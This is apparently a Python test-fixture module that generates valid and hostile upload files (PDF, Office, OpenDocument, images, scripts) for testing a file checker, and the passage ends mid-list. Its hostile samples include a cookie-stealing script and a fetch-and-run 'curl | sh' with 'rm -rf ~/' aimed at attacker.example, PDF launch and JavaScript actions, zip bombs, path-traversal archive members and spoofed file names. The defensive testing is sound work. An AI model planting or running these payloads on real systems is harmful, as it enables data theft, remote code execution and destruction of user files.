"""Test files for evidence.filecheck, built at test time (no binary fixtures committed).

``valid_files(dir)`` writes small valid files of every accepted type; ``hostile_files(dir,
max_bytes)`` writes files that must be refused, each with a phrase its reason must
contain; ``hostile_names()`` lists uploaded names that must be sanitised.

Everything is small and quick: the 300 MB zip bomb is streamed through zlib and is
about 300 KB on disk, and the oversized file is sparse.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

MB = 1024 * 1024


@dataclass(frozen=True)
class HostileCase:
    name: str  # the name it is uploaded as
    path: Path
    expected_reason_substring: str


# ------------------------------------------------------------------------ PDF


def pdf_bytes(change=None) -> bytes:
    """A one-page PDF written by pypdf; ``change(writer)`` may add to it first."""
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_metadata({"/Title": "Engagement report"})
    if change:
        change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _name(value: str) -> NameObject:
    return NameObject(value)


def _add_link(writer: PdfWriter, action: DictionaryObject) -> None:
    annotation = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name("/Link"),
            _name("/Rect"): ArrayObject([FloatObject(n) for n in (10, 10, 100, 30)]),
            _name("/A"): action,
        }
    )
    writer.pages[0][_name("/Annots")] = ArrayObject([writer._add_object(annotation)])


def _uri_link(writer: PdfWriter) -> None:
    _add_link(
        writer,
        DictionaryObject(
            {
                _name("/S"): _name("/URI"),
                _name("/URI"): TextStringObject("https://www.england.nhs.uk/"),
            }
        ),
    )


def _javascript_open_action(writer: PdfWriter) -> None:
    action = DictionaryObject(
        {_name("/S"): _name("/JavaScript"), _name("/JS"): TextStringObject("app.alert(1)")}
    )
    writer.root_object[_name("/OpenAction")] = writer._add_object(action)


def _javascript_names(writer: PdfWriter) -> None:
    """Document-level JavaScript: the catalog's /Names /JavaScript name tree."""
    action = DictionaryObject(
        {_name("/S"): _name("/JavaScript"), _name("/JS"): TextStringObject("app.alert(2)")}
    )
    tree = DictionaryObject(
        {_name("/Names"): ArrayObject([TextStringObject("init"), writer._add_object(action)])}
    )
    writer.root_object[_name("/Names")] = DictionaryObject(
        {_name("/JavaScript"): writer._add_object(tree)}
    )


def _launch_open_action(writer: PdfWriter) -> None:
    action = DictionaryObject(
        {_name("/S"): _name("/Launch"), _name("/F"): TextStringObject("C:\\Windows\\calc.exe")}
    )
    writer.root_object[_name("/OpenAction")] = writer._add_object(action)


def _launch_link(writer: PdfWriter) -> None:
    _add_link(
        writer,
        DictionaryObject({_name("/S"): _name("/Launch"), _name("/F"): TextStringObject("/bin/sh")}),
    )


def _javascript_page_action(writer: PdfWriter) -> None:
    page_open = DictionaryObject(
        {_name("/S"): _name("/JavaScript"), _name("/JS"): TextStringObject("this.print()")}
    )
    writer.pages[0][_name("/AA")] = DictionaryObject({_name("/O"): page_open})


def _attachment(writer: PdfWriter) -> None:
    writer.add_attachment("payload.txt", b"attached data")


def _encrypt(writer: PdfWriter) -> None:
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")


def handmade_pdf(objects: dict[int, bytes], root: int = 1) -> bytes:
    """A PDF with a classic xref table from ``{number: b"<< ... >>"}``."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        if number in offsets:
            out += b"%010d 00000 n \n" % offsets[number]
        else:
            out += b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref)
    return bytes(out)


_PAGE_OBJECTS = {
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
}


def escaped_javascript_pdf() -> bytes:
    """/J#61vaScript and /J#53: names written with #xx escapes, which readers decode."""
    return handmade_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            **_PAGE_OBJECTS,
            4: b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
        }
    )


def object_stream_javascript_pdf() -> bytes:
    """A JavaScript open action inside a compressed object stream: invisible to a byte scan.

    PDF 1.5 layout: objects 1-3 plain, object 4 (the action) inside object stream 5,
    and a cross-reference stream (object 6) that says where everything is.
    """
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}

    def add(number: int, body: bytes) -> None:
        offsets[number] = len(out)
        out.extend(b"%d 0 obj\n%s\nendobj\n" % (number, body))

    add(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>")
    add(2, _PAGE_OBJECTS[2])
    add(3, _PAGE_OBJECTS[3])
    inner = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    header = b"4 0 "
    packed = zlib.compress(header + inner)
    add(
        5,
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (len(header), len(packed), packed),
    )
    xref_offset = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for number in range(1, 7):
        if number == 4:
            rows.append(struct.pack(">BIH", 2, 5, 0))
        elif number == 6:
            rows.append(struct.pack(">BIH", 1, xref_offset, 0))
        else:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
    data = b"".join(rows)
    out.extend(
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\n"
        b"endstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (len(data), data, xref_offset)
    )
    return bytes(out)


# ---------------------------------------------------------------------- OOXML

CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
XML_DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'

MAIN_TYPES = {
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    "pptx": "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    "docm": "application/vnd.ms-word.document.macroEnabled.main+xml",
}


def content_types(overrides: dict[str, str], defaults: dict[str, str] | None = None) -> str:
    defaults = {
        "rels": "application/vnd.openxmlformats-package.relationships+xml",
        "xml": "application/xml",
        **(defaults or {}),
    }
    return (
        f'{XML_DECL}<Types xmlns="{CT_NS}">'
        + "".join(f'<Default Extension="{e}" ContentType="{t}"/>' for e, t in defaults.items())
        + "".join(f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in overrides.items())
        + "</Types>"
    )


def relationships(*rels: tuple[str, str, str] | tuple[str, str, str, str]) -> str:
    """``(id, type, target[, "External"])`` relationships; short types are office ones."""
    items = []
    for rel in rels:
        rel_id, rel_type, target = rel[:3]
        if "/" not in rel_type:
            rel_type = f"{OFFICE_REL}/{rel_type}"
        mode = f' TargetMode="{rel[3]}"' if len(rel) > 3 else ""
        items.append(f'<Relationship Id="{rel_id}" Type="{rel_type}" Target="{target}"{mode}/>')
    return f'{XML_DECL}<Relationships xmlns="{REL_NS}">{"".join(items)}</Relationships>'


W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def docx_parts(main_type: str | None = None) -> dict[str, str | bytes]:
    return {
        "[Content_Types].xml": content_types(
            {"/word/document.xml": main_type or MAIN_TYPES["docx"]}
        ),
        "_rels/.rels": relationships(("rId1", "officeDocument", "word/document.xml")),
        "word/document.xml": (
            f'{XML_DECL}<w:document xmlns:w="{W_NS}" xmlns:r="{OFFICE_REL}"><w:body>'
            "<w:p><w:r><w:t>Patient and public engagement report.</w:t></w:r></w:p>"
            '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>NHS England</w:t></w:r></w:hyperlink></w:p>'
            "</w:body></w:document>"
        ),
        # A hyperlink to a website is an external relationship that is fine.
        "word/_rels/document.xml.rels": relationships(
            ("rId9", "hyperlink", "https://www.england.nhs.uk/", "External")
        ),
    }


S_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def xlsx_parts() -> dict[str, str | bytes]:
    return {
        "[Content_Types].xml": content_types(
            {
                "/xl/workbook.xml": MAIN_TYPES["xlsx"],
                "/xl/worksheets/sheet1.xml": (
                    "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
                ),
            }
        ),
        "_rels/.rels": relationships(("rId1", "officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": (
            f'{XML_DECL}<workbook xmlns="{S_NS}" xmlns:r="{OFFICE_REL}"><sheets>'
            '<sheet name="Responses" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": relationships(("rId1", "worksheet", "worksheets/sheet1.xml")),
        "xl/worksheets/sheet1.xml": (
            f'{XML_DECL}<worksheet xmlns="{S_NS}"><sheetData>'
            '<row r="1"><c r="A1" t="inlineStr"><is><t>Responses</t></is></c>'
            '<c r="B1"><v>42</v></c></row></sheetData></worksheet>'
        ),
    }


P_NS = "http://schemas.openxmlformats.org/presentationml/2006/main"


def pptx_parts() -> dict[str, str | bytes]:
    slide_type = "application/vnd.openxmlformats-officedocument.presentationml.slide+xml"
    return {
        "[Content_Types].xml": content_types(
            {"/ppt/presentation.xml": MAIN_TYPES["pptx"], "/ppt/slides/slide1.xml": slide_type}
        ),
        "_rels/.rels": relationships(("rId1", "officeDocument", "ppt/presentation.xml")),
        "ppt/presentation.xml": (
            f'{XML_DECL}<p:presentation xmlns:p="{P_NS}" xmlns:r="{OFFICE_REL}">'
            '<p:sldIdLst><p:sldId id="256" r:id="rId2"/></p:sldIdLst>'
            '<p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/>'
            "</p:presentation>"
        ),
        "ppt/_rels/presentation.xml.rels": relationships(("rId2", "slide", "slides/slide1.xml")),
        "ppt/slides/slide1.xml": (
            f'{XML_DECL}<p:sld xmlns:p="{P_NS}"><p:cSld><p:spTree/></p:cSld></p:sld>'
        ),
    }


def write_zip(path: Path, parts: dict[str, str | bytes], *, stored_first: bool = False) -> Path:
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for index, (name, data) in enumerate(parts.items()):
            info = zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0))
            info.compress_type = (
                zipfile.ZIP_STORED if stored_first and index == 0 else zipfile.ZIP_DEFLATED
            )
            archive.writestr(info, data)
    return path


def write_zip_with_bomb(path: Path, parts: dict[str, str | bytes], bomb_bytes: int) -> Path:
    """``parts`` plus one member of ``bomb_bytes`` zeros, deflated as it is streamed."""
    write_zip(path, parts)
    zeros = bytes(MB)
    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        info = zipfile.ZipInfo("media/zeros.bin", date_time=(2020, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w") as member:
            left = bomb_bytes
            while left:
                step = min(left, len(zeros))
                member.write(zeros[:step])
                left -= step
    return path


def mark_encrypted(path: Path) -> Path:
    """Set the 'encrypted' flag on every member (local and central headers)."""
    data = bytearray(path.read_bytes())
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at >= 0:
            data[at + flag_offset] |= 0x01
            at = data.find(signature, at + 4)
    path.write_bytes(bytes(data))
    return path


# ---------------------------------------------------------------- OpenDocument

ODF_TEXT = "application/vnd.oasis.opendocument.text"
ODF_SPREADSHEET = "application/vnd.oasis.opendocument.spreadsheet"
ODF_NAMESPACES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3"'
)


def odf_parts(mimetype: str, body: str, extra: dict[str, str | bytes] | None = None):
    manifest = (
        f"{XML_DECL}<manifest:manifest "
        'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
        'manifest:version="1.3">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    return {
        "mimetype": mimetype,
        "META-INF/manifest.xml": manifest,
        "content.xml": (
            f"{XML_DECL}<office:document-content {ODF_NAMESPACES}>"
            f"<office:scripts/><office:body>{body}</office:body></office:document-content>"
        ),
        **(extra or {}),
    }


ODT_BODY = (
    "<office:text><text:p>Engagement summary. See "
    '<text:a xlink:type="simple" xlink:href="https://www.england.nhs.uk/">NHS England</text:a>.'
    "</text:p></office:text>"
)
ODS_BODY = (
    '<office:spreadsheet><table:table table:name="Responses"><table:table-row>'
    "<table:table-cell><text:p>Responses</text:p></table:table-cell>"
    "</table:table-row></table:table></office:spreadsheet>"
)


# ---------------------------------------------------------------------- images

# An 8x8 NHS-blue JPEG (baseline, 286 bytes), made once with Pillow.
JPEG_BYTES = bytes.fromhex(
    "ffd8ffe000104a46494600010100000100010000ffdb004300100b0c0e0c0a100e0d0e1211101318281a181616"
    "183123251d283a333d3c3933383740485c4e404457453738506d51575f626768673e4d71797064785c656763ff"
    "db0043011112121815182f1a1a2f634238426363636363636363636363636363636363636363636363636363636363"
    "6363636363636363636363636363636363636363ffc00011080008000803012200021101031101ffc4001500"
    "010100000000000000000000000000000005ffc40014100100000000000000000000000000000000ffc4001401"
    "0100000000000000000000000000000005ffc40014110100000000000000000000000000000000ffda000c0301"
    "0002110311003f008a01d0cfffd9"
)


def png_bytes(width: int = 4, height: int = 4, rgb: tuple[int, int, int] = (0, 94, 184)) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    rows = b"".join(b"\x00" + bytes(rgb) * width for _ in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


# -------------------------------------------------------------- other formats

ELF_BYTES = (
    b"\x7fELF\x02\x01\x01\x00"
    + bytes(8)
    + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    + struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 0x1000, 0x1000, 0x1000)
    + bytes(256)
)

# A DOS header pointing at a PE header for an x86-64 executable.
PE_BYTES = (
    b"MZ"
    + bytes(58)
    + struct.pack("<I", 64)
    + b"PE\x00\x00"
    + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 0xF0, 0x22)
    + struct.pack("<H", 0x20B)
    + bytes(400)
)

# The compound-file (OLE2) header used by .doc, .xls and .ppt.
OLE2_BYTES = (
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    + bytes(16)
    + struct.pack("<HHHHHH", 0x3E, 3, 0xFFFE, 9, 6, 0)
    + bytes(6)
    + struct.pack("<IIIIIIII", 0, 1, 1, 0, 0x1000, 0xFFFFFFFE, 0, 0xFFFFFFFE)
    + struct.pack("<I", 0)
    + b"\xff" * (512 - 76 - 4)
    + bytes(1024)
)

HTML_WITH_SCRIPT = (
    b"<!DOCTYPE html>\n<html><head><title>Report</title>"
    b"<script>document.location='https://attacker.example/?c='+document.cookie</script>"
    b"</head><body><p>Engagement report</p></body></html>\n"
)
SVG_WITH_SCRIPT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script>"
    b'<rect width="10" height="10" fill="blue"/></svg>\n'
)
SHELL_SCRIPT = b"#!/bin/sh\ncurl -s https://attacker.example/x | sh\nrm -rf ~/\n"

CSV_TEXT = (
    "\ufeffEvent,Date,Attendees,Notes\n"
    'Public meeting,2019-06-12,48,"Held in King\'s Lynn; questions on \u00a3 spend"\n'
    "Online survey,2019-07-01,311,Closed after four weeks\n"
).encode()
TXT_TEXT = (
    "Engagement log \u2013 NHS West Norfolk CCG\n\n"
    "Patient participation group met on 12 June. Caf\u00e9 venue; 48 attended.\n"
).encode()


def _valid_writers() -> dict[str, Callable[[Path], object]]:
    local_template = relationships(
        (
            "rId1",
            "attachedTemplate",
            "file:///C:\\Users\\lead\\AppData\\Roaming\\Microsoft\\Templates\\NHS.dotx",
            "External",
        )
    )
    odt_with_picture = (
        '<office:text><text:p><draw:frame><draw:image xlink:href="Pictures/logo.png" '
        'xlink:type="simple"/></draw:frame>Logo</text:p></office:text>'
    )
    return {
        "annual-report.pdf": lambda path: path.write_bytes(pdf_bytes(_uri_link)),
        "survey.png": _bytes(png_bytes()),
        "photo.jpg": _bytes(JPEG_BYTES),
        "poster.jpeg": _bytes(JPEG_BYTES),
        "events.csv": _bytes(CSV_TEXT),
        "engagement-log.txt": _bytes(TXT_TEXT),
        "notes-windows-1252.txt": _bytes(
            "Caf\u00e9 meeting \u2013 \u00a35 vouchers\r\n".encode("cp1252")
        ),
        "engagement-plan.docx": _zip(docx_parts()),
        # A template on the author's own drive is fine; one on a server is not.
        "from-local-template.docx": _zip(
            {**docx_parts(), "word/_rels/settings.xml.rels": local_template}
        ),
        "responses.xlsx": _zip(xlsx_parts()),
        "board-slides.pptx": _zip(pptx_parts()),
        "summary.odt": _odf(ODF_TEXT, ODT_BODY),
        "with-picture.odt": _odf(ODF_TEXT, odt_with_picture, {"Pictures/logo.png": png_bytes()}),
        "responses.ods": _odf(ODF_SPREADSHEET, ODS_BODY),
    }


def valid_files(directory: Path) -> dict[str, Path]:
    """Small valid files, one or more per accepted type, keyed by the name uploaded."""
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    paths = {}
    for name, write in _valid_writers().items():
        paths[name] = directory / name
        write(paths[name])
    return paths


@dataclass(frozen=True)
class HostileSpec:
    """A hostile case before it is written: ``write(path)`` puts the file on disk."""

    name: str
    expected_reason_substring: str
    write: Callable[[Path], object]


def _bytes(content: bytes) -> Callable[[Path], object]:
    return lambda path: path.write_bytes(content)


def _pdf(change=None) -> Callable[[Path], object]:
    return lambda path: path.write_bytes(pdf_bytes(change))


def _zip(parts: dict[str, str | bytes], **kwargs) -> Callable[[Path], object]:
    return lambda path: write_zip(path, parts, **kwargs)


def _odf(mimetype: str, body: str, extra=None) -> Callable[[Path], object]:
    return _zip(odf_parts(mimetype, body, extra), stored_first=True)


def _bomb(parts: dict[str, str | bytes], size: int) -> Callable[[Path], object]:
    return lambda path: write_zip_with_bomb(path, parts, size)


def _encrypted_zip(parts: dict[str, str | bytes]) -> Callable[[Path], object]:
    return lambda path: mark_encrypted(write_zip(path, parts))


def _zip_after(prefix: bytes, parts: dict[str, str | bytes]) -> Callable[[Path], object]:
    def write(path: Path) -> None:
        write_zip(path, parts)
        path.write_bytes(prefix + path.read_bytes())

    return write


def _sparse(size: int) -> Callable[[Path], object]:
    def write(path: Path) -> None:
        with open(path, "wb") as fh:  # one byte written at the end: the rest is a hole
            fh.seek(size - 1)
            fh.write(b"\n")

    return write


def _truncated_pdf(path: Path) -> None:
    data = pdf_bytes()
    path.write_bytes(data[: len(data) * 2 // 3])


NOT_ACCEPTED = "files of this type are not accepted"
DAMAGED_PDF = "it is a damaged PDF that cannot be opened"
PDF_SCRIPTS = "it is a PDF containing scripts"
MACROS = "it contains macros"
EXTERNAL = "it links to external files or data"
BOMB = "it is a compressed file that expands to an unsafe size"
WEB_PAGE = "it contains web page code"
UNSAFE_PATHS = "unsafe file paths"
IS_NOT_PDF = "its content is not a PDF"
IS_NOT_DOCX = "its content is not a Word document (DOCX)"
IS_NOT_PNG = "its content is not a PNG image"


def hostile_specs(max_bytes: int) -> list[HostileSpec]:
    """The hostile cases, cheap to list: nothing is built until ``write`` is called."""
    spec = HostileSpec
    return [
        # Programs and web content dressed up as documents.
        spec("report-elf.pdf", f"{IS_NOT_PDF} (it looks like a Linux program)", _bytes(ELF_BYTES)),
        spec(
            "report-windows.pdf",
            f"{IS_NOT_PDF} (it looks like a Windows program)",
            _bytes(PE_BYTES),
        ),
        spec("plan-elf.docx", f"{IS_NOT_DOCX}; it looks like a Linux program", _bytes(ELF_BYTES)),
        spec(
            "plan-windows.docx", f"{IS_NOT_DOCX}; it looks like a Windows program", _bytes(PE_BYTES)
        ),
        spec(
            "installer.docx",
            f"{IS_NOT_DOCX}; it looks like a Windows program",
            _zip_after(PE_BYTES, docx_parts()),
        ),
        spec(
            "chart-windows.png", f"{IS_NOT_PNG} (it looks like a Windows program)", _bytes(PE_BYTES)
        ),
        spec("chart-elf.png", f"{IS_NOT_PNG} (it looks like a Linux program)", _bytes(ELF_BYTES)),
        spec("readme.txt", "it contains a script", _bytes(SHELL_SCRIPT)),
        spec(
            "page.pdf", f"{IS_NOT_PDF} (it looks like an HTML web page)", _bytes(HTML_WITH_SCRIPT)
        ),
        spec("page.txt", WEB_PAGE, _bytes(HTML_WITH_SCRIPT)),
        spec("page.csv", WEB_PAGE, _bytes(HTML_WITH_SCRIPT)),
        spec(
            "script-later.txt",
            WEB_PAGE,
            _bytes(b"Meeting notes\n" * 20 + b"<ScRiPt src=//attacker.example/x.js></script>\n"),
        ),
        spec("logo.png", f"{IS_NOT_PNG} (it looks like an SVG image)", _bytes(SVG_WITH_SCRIPT)),
        spec("logo.pdf", f"{IS_NOT_PDF} (it looks like an SVG image)", _bytes(SVG_WITH_SCRIPT)),
        spec("photo.png", f"{IS_NOT_PNG} (it looks like a JPEG image)", _bytes(JPEG_BYTES)),
        spec(
            "photo.jpg",
            "its content is not a JPEG image (it looks like a PNG image)",
            _bytes(png_bytes()),
        ),
        spec("scan.pdf", f"{IS_NOT_PDF} (it looks like a PNG image)", _bytes(png_bytes())),
        spec(
            "old-format.docx",
            f"{IS_NOT_DOCX}; it looks like an older Office file",
            _bytes(OLE2_BYTES),
        ),
        # PDFs.
        spec("open-action-script.pdf", PDF_SCRIPTS, _pdf(_javascript_open_action)),
        spec("document-script.pdf", PDF_SCRIPTS, _pdf(_javascript_names)),
        spec("page-open-script.pdf", PDF_SCRIPTS, _pdf(_javascript_page_action)),
        spec("launch-on-open.pdf", PDF_SCRIPTS, _pdf(_launch_open_action)),
        spec("launch-link.pdf", PDF_SCRIPTS, _pdf(_launch_link)),
        spec("escaped-names-script.pdf", PDF_SCRIPTS, _bytes(escaped_javascript_pdf())),
        spec("object-stream-script.pdf", PDF_SCRIPTS, _bytes(object_stream_javascript_pdf())),
        spec("attachment.pdf", "it is a PDF with other files attached", _pdf(_attachment)),
        spec("locked.pdf", "it is a password-protected PDF", _pdf(_encrypt)),
        spec("truncated.pdf", DAMAGED_PDF, _truncated_pdf),
        spec(
            "garbage.pdf",
            DAMAGED_PDF,
            _bytes(b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\n%%EOF\n"),
        ),
        # ZIP containers: size, structure, macros, links, identity.
        spec("bomb-300mb.xlsx", BOMB, _bomb(xlsx_parts(), 300 * MB)),
        spec("bomb-ratio.docx", BOMB, _bomb(docx_parts(), 50 * MB)),
        spec(
            "many-parts.xlsx",
            "it has too many parts to be safe",
            _zip({**xlsx_parts(), **{f"xl/media/part{n}.bin": b"x" for n in range(2000)}}),
        ),
        spec("traversal.docx", UNSAFE_PATHS, _zip({**docx_parts(), "../../evil.sh": SHELL_SCRIPT})),
        spec(
            "absolute-path.docx",
            UNSAFE_PATHS,
            _zip({**docx_parts(), "/etc/cron.d/evil": SHELL_SCRIPT}),
        ),
        spec("encrypted-parts.docx", "it is password-protected", _encrypted_zip(docx_parts())),
        spec("macro-enabled.docx", MACROS, _zip(docx_parts(MAIN_TYPES["docm"]))),
        spec("vba-project.xlsx", MACROS, _zip({**xlsx_parts(), "xl/vbaProject.bin": OLE2_BYTES})),
        spec(
            "external-links.xlsx",
            EXTERNAL,
            _zip(
                {
                    **xlsx_parts(),
                    "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{S_NS}"/>',
                    "xl/externalLinks/_rels/externalLink1.xml.rels": relationships(
                        ("rId1", "externalLinkPath", "file:///C:/finance/budget.xlsx", "External")
                    ),
                }
            ),
        ),
        spec(
            "attached-template.docx",
            EXTERNAL,
            _zip(
                {
                    **docx_parts(),
                    "word/_rels/settings.xml.rels": relationships(
                        ("rId1", "attachedTemplate", "https://attacker.example/t.dotm", "External")
                    ),
                }
            ),
        ),
        spec(
            "template-on-share.docx",
            EXTERNAL,
            _zip(
                {
                    **docx_parts(),
                    "word/_rels/settings.xml.rels": relationships(
                        ("rId1", "attachedTemplate", "file://attacker.example/t/x.dotx", "External")
                    ),
                }
            ),
        ),
        spec(
            "remote-ole.pptx",
            EXTERNAL,
            _zip(
                {
                    **pptx_parts(),
                    "ppt/slides/_rels/slide1.xml.rels": relationships(
                        ("rId3", "oleObject", "\\\\attacker.example\\share\\x.xls", "External")
                    ),
                }
            ),
        ),
        spec(
            "billion-laughs.docx",
            "it is a damaged Word document (DOCX)",
            _zip(
                {
                    **docx_parts(),
                    "[Content_Types].xml": (
                        '<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY a "aaaaaaaaaa">'
                        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
                        f'<Types xmlns="{CT_NS}"><Default Extension="b" ContentType="&b;"/></Types>'
                    ),
                }
            ),
        ),
        spec(
            "spreadsheet.docx",
            f"{IS_NOT_DOCX}; it looks like an Excel spreadsheet",
            _zip(xlsx_parts()),
        ),
        spec("archive-only.docx", f"{IS_NOT_DOCX}; it looks like a ZIP", _zip({"notes.txt": "hi"})),
        spec(
            "macro-basic.odt",
            MACROS,
            _odf(ODF_TEXT, ODT_BODY, {"Basic/Standard/Module1.xml": "<module/>"}),
        ),
        spec(
            "macro-event.odt",
            MACROS,
            _zip(
                odf_parts(ODF_TEXT, "")
                | {
                    "content.xml": (
                        f"{XML_DECL}<office:document-content {ODF_NAMESPACES}><office:scripts>"
                        '<office:event-listeners><script:event-listener script:language="ooo:'
                        'script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:'
                        'Tools.Debug.Run?language=Basic&amp;location=application"/>'
                        "</office:event-listeners></office:scripts><office:body><office:text/>"
                        "</office:body></office:document-content>"
                    )
                },
                stored_first=True,
            ),
        ),
        spec(
            "linked-sheet.ods",
            EXTERNAL,
            _odf(
                ODF_SPREADSHEET,
                '<office:spreadsheet><table:table table:name="Linked"><table:table-source '
                'xlink:type="simple" xlink:href="file:///C:/finance/budget.ods"/>'
                "</table:table></office:spreadsheet>",
            ),
        ),
        spec(
            "text-as-spreadsheet.ods",
            "its content is not an OpenDocument spreadsheet (ODS); "
            "it looks like an OpenDocument text",
            _odf(ODF_TEXT, ODT_BODY),
        ),
        # Size, names and plain text.
        spec("empty.pdf", "it is empty", _bytes(b"")),
        spec(
            "oversized.txt",
            f"it is larger than the {_size_words(max_bytes)} limit",
            _sparse(max_bytes + 1),
        ),
        spec("README", NOT_ACCEPTED, _bytes(TXT_TEXT)),
        spec("setup.exe", NOT_ACCEPTED, _bytes(PE_BYTES)),
        spec("page.html", NOT_ACCEPTED, _bytes(HTML_WITH_SCRIPT)),
        spec("bundle.zip", NOT_ACCEPTED, _zip(docx_parts())),
        spec("logo.svg", NOT_ACCEPTED, _bytes(SVG_WITH_SCRIPT)),
        spec("invoice\u202efdp.exe", NOT_ACCEPTED, _bytes(PE_BYTES)),
        spec("report.pdf\x00.exe", NOT_ACCEPTED, _bytes(PE_BYTES)),
        spec("nul-bytes.txt", "it contains binary data", _bytes(b"Notes\x00\x00\x00binary\x00")),
        spec("utf16.txt", "it contains binary data", _bytes("Meeting notes".encode("utf-16"))),
    ]


def hostile_files(directory: Path, max_bytes: int) -> list[HostileCase]:
    """Write the hostile cases into ``directory``; check them with ``max_bytes`` as the limit."""
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    cases = []
    for number, spec in enumerate(hostile_specs(max_bytes)):
        safe = re.sub(r"[^A-Za-z0-9._-]", "_", spec.name)
        path = directory / f"{number:02d}-{safe}"
        spec.write(path)
        cases.append(HostileCase(spec.name, path, spec.expected_reason_substring))
    return cases


def _size_words(size: int) -> str:
    return f"{size // MB} MB" if size % MB == 0 else f"{size / MB:.1f} MB"


def hostile_names() -> list[str]:
    """Uploaded names that must sanitise to safe display names."""
    return [
        "../../etc/passwd.pdf",
        "..\\..\\boot.ini.pdf",
        "/var/www/html/index.pdf",
        "C:\\Users\\lead\\Desktop\\minutes.docx",
        "report\x00\x07.pdf",
        "a\r\nb.pdf",
        "tab\there\x1b[31m.txt",
        "invoice\u202efdp.exe",
        "minutes\u202eTXT.pdf",
        "zero\u200bwidth\ufeff.pdf",
        "isolate\u2066x\u2069.png",
        "x" * 300 + ".pdf",
